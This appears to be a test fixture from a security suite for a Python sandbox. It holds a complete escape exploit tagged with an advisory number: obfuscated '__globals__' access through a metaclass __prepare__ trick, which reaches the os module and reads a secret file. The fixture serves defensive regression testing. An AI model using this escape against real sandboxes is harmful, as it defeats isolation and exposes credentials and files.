# class: attribute access without a dot
# technique: the namespace of a class statement is the attacker's
# advisory: CVE-2026-49444
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
import operator
name = "".join([chr(95), chr(95), "glo", "bals", chr(95), chr(95)])
class Names(dict):
    def __getitem__(self, asked):
        return operator.attrgetter(name)(quit.__init__)
class Meta(classmethod(lambda c: c).__get__(int)()):
    def __prepare__(name, bases):
        return Names()
class Reader(metaclass=Meta):
    g = walked
g = Reader.g
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
